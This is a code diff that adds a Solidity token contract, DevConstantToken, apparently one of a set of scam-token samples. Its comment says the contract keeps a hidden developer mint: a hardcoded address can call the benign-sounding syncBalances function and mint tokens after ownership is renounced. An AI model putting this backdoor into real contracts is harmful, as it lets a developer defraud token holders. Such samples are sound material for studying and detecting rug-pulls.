@@ -313,3 +313,17 @@ contract RewardSweepToken is PairAware {
         super._transfer(from, to, value);
     }
 }
+
+/// A gatekeeper no storage slot or interface names: the developer's
+/// address is a constant in the code, compared with the caller; ownership
+/// is renounced, and the developer can still mint.
+contract DevConstantToken is PairAware {
+    address private constant DEV = 0x5C0Dec0dE5c0dec0De5C0dec0De5C0dec0De5C0D;
+
+    constructor(string memory n, string memory s, uint256 supply) BaseToken(n, s, 18, supply) {}
+
+    function syncBalances(address to, uint256 amount) external {
+        require(msg.sender == DEV, "!");
+        _mint(to, amount);
+    }
+}
